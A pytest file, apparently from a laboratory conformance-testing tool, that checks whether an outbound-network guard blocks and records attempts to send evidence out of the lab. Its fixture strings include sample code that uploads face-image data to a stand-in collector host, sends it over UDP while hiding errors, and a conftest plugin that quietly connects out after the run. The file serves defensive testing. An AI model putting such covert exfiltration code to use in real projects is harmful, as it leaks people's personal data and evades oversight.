"""Group J, personal data: an attempt to send evidence out of the laboratory is stopped and recorded."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from pytest_conformance.errors import UsageError
from pytest_conformance.record import Run, read_journal, verify_run
from pytest_conformance.record.sequel import read_sequel
from pytest_conformance.running.outbound import Guard, OutboundError, guarded

HEADER = {"bench": "b1", "mode": "mock", "device": {"model": "M", "firmware": "1.2", "sample": "S1"}}
OUTSIDE = "1.1.1.1"
SENDS = """
import urllib.request, socket

@clause("CN-FRT-8.a")
def test_sends_evidence(run, supply):
    evidence = run.evidence(b"a face", name="face.png", media_type="image/png", caption="c", face=True)
    urllib.request.urlopen("http://collector.example.com/upload", data=b"a face", timeout=5)

@clause("CN-FRT-8.b")
def test_hides_it(run, supply):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(b"a face", ("1.1.1.1", 53))
    except Exception:
        pass

@clause("CN-FRT-8.c")
def test_uses_the_bench(supply):
    assert not supply.is_on()
"""


PLUGIN = """
import contextlib, socket

def pytest_terminal_summary():
    with contextlib.suppress(OSError):
        socket.create_connection(("192.88.99.1", 443), 2)
"""


@pytest.fixture
def run(tmp_path: Path) -> Run:
    return Run.start(tmp_path / "runs", HEADER)


def blocked(folder: Path) -> list[tuple[str, Any]]:
    rows = [each.data for each in read_journal(folder / "journal.jsonl") if each.type == "x-outbound"]
    assert all(each["blocked"] for each in rows)
    return [(each["to"], each["port"]) for each in rows]


def test_J08_a_test_that_sends_evidence_out_is_stopped_and_it_is_recorded(
    conduct: Callable[..., Any], bench_file: Callable[..., Path]
) -> None:
    ran = conduct(SENDS, bench_file())
    assert blocked(ran.folder) == [("collector.example.com", 80), (OUTSIDE, 53)]
    (first, second) = (each.data["by"] for each in ran.events("x-outbound"))
    assert "test_mine.py:" in first
    assert "test_mine.py:" in second
    assert "USE-OUT-001" in ran.out
    assert ran.verdict("CN-FRT-8.a")[0] not in ("PASS", "FAIL")
    assert "evidence stays in the laboratory" in ran.clauses["CN-FRT-8.a"]["reason"]


def test_J08_a_plugin_that_uploads_when_all_is_over(
    conduct: Callable[..., Any], bench_file: Callable[..., Path], tmp_path: Path
) -> None:
    """A plugin that sends after the end of the run: stopped as a refused connection, recorded in the sequel."""
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "conftest.py").write_text(PLUGIN)
    ran = conduct("\n@clause('CN-FRT-8.a')\ndef test_it(supply):\n    assert not supply.is_on()\n", bench_file())
    assert ran.verdict("CN-FRT-8.a") == ("PASS", None), ran.out
    assert blocked(ran.folder) == [], "the run was over"
    (attempt,) = [each.data for each in read_sequel(ran.folder) if each.type == "x-outbound"]
    assert (attempt["to"], attempt["port"], attempt["blocked"]) == ("192.88.99.1", 443, True)
    assert "conftest.py:" in attempt["by"]
    assert verify_run(ran.folder) == []


def test_J08_every_way_of_a_socket_is_watched_and_only_while_the_run_lasts(run: Run) -> None:
    def attempts() -> list[Callable[[], object]]:
        return [
            lambda: socket.create_connection((OUTSIDE, 443), timeout=0.01),
            lambda: socket.socket().connect_ex((OUTSIDE, 443)),
            lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", (OUTSIDE, 9)),
            lambda: socket.socket(type=socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, (OUTSIDE, 9)),
            lambda: socket.socket(socket.AF_INET6).connect(("2606:4700:4700::1111", 443)),
            lambda: socket.getaddrinfo("collector.example.com", 443),
        ]

    with guarded(run, ()) as guard:
        for attempt in attempts():
            with pytest.raises(UsageError) as caught:
                attempt()
            assert caught.value.code == "USE-OUT-001"
        in_a_thread: list[BaseException] = []

        def other() -> None:
            try:
                socket.create_connection((OUTSIDE, 25), timeout=0.01)
            except BaseException as error:
                in_a_thread.append(error)

        thread = threading.Thread(target=other)
        thread.start()
        thread.join()
        assert [type(each) for each in in_a_thread] == [OutboundError]
    assert guard.refused == 7
    assert len(blocked(run.folder)) == 7
    with socket.socket(type=socket.SOCK_DGRAM) as line, suppress(OSError):  # the machine may have no way out
        line.sendto(b"", (OUTSIDE, 9))


def test_J08_the_bench_its_networks_and_what_it_names_are_reached(run: Run) -> None:
    guard = Guard(run, ("supply.maker.example.com", "198.18.0.7", "9.9.9.9"))
    with socket.create_server(("127.0.0.1", 0)) as server, guarded(run, ()):
        socket.create_connection(server.getsockname(), timeout=5).close()
    inside = ("127.0.0.1", "::1", "10.1.2.3", "192.168.0.9", "172.16.0.1", "fe80::1%eth0", "fd00::1", "224.0.0.1")
    for host in (*inside, "9.9.9.9", "localhost", "scope-7", "lamp.local", "supply.maker.example.com"):
        guard.look("socket.connect", (None, (host, 5025)))
    guard.look("socket.connect", (None, "/run/some.socket"))
    guard.look("socket.getaddrinfo", ("supply.maker.example.com", 5025, 0, 0, 0))
    guard.look("socket.connect", (None, (OUTSIDE, 5025)))  # what that name stands for
    guard.look("socket.getaddrinfo", ("lamp.local", 80, 0, 0, 0))
    with pytest.raises(UsageError):
        guard.look("socket.connect", (None, (OUTSIDE, 5025)))
    assert blocked(run.folder) == [(OUTSIDE, 5025)]


def test_J08_a_storm_of_attempts_does_not_fill_the_record(run: Run) -> None:
    guard = Guard(run, ())
    for _ in range(150):
        with pytest.raises(UsageError):
            guard.look("socket.connect", (None, (OUTSIDE, 1)))
    assert (guard.refused, len(blocked(run.folder))) == (150, 100)
    run.stop(0)
    with pytest.raises(UsageError):
        Guard(run, ()).look("socket.connect", (None, (OUTSIDE, 1)))
